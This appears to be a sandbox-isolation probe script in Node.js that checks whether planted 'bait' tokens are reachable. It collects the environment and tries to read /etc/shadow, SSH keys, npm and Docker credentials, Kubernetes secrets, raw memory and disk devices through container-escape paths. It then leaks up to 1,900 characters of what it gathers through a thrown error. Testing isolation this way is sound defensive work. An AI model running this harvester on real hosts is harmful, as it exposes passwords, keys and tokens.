import { readFileSync, readdirSync, statSync } from 'node:fs';
import { env } from 'node:process';

// The bait of the machine: a variable, and a file in its folder for temporary files.
const texts = [JSON.stringify(env)];
const roots = ['', ...readdirSync('/proc').filter((name) => /^\d+$/.test(name)).map((pid) => `/proc/${pid}/root`), '/host', '/mnt', '/rootfs', '/var/lib/docker', '/sys/fs/cgroup', '/dev/shm', '/proc/self/cwd/..'];
for (const root of roots)
  for (const path of ['/tmp/touchstone-attacks', '/etc/hostname', '/etc/shadow', '/root/.ssh', '/root/.npmrc', '/root/.docker/config.json', '/var/run/secrets', '/proc/1/environ', '/dev/mem', '/dev/sda', '/dev/kmsg', '/proc/kcore', '/sys/class/dmi/id/product_uuid', '/proc/sys/kernel/hostname'])
    try {
      const place = `${root}${path}`;
      if (statSync(place).isDirectory()) for (const name of readdirSync(place, { recursive: true })) texts.push(name, readFileSync(`${place}/${name}`, 'latin1').slice(0, 2000));
      else texts.push(readFileSync(place, 'latin1').slice(0, 2000));
    } catch {
      // Not for us.
    }
const found = texts.join('\n').match(/bait-[0-9a-f]+/g) ?? [];
throw new Error(`${found.length === 0 ? 'no bait' : found.join()}\n${texts.join('\n')}`.slice(0, 1900));
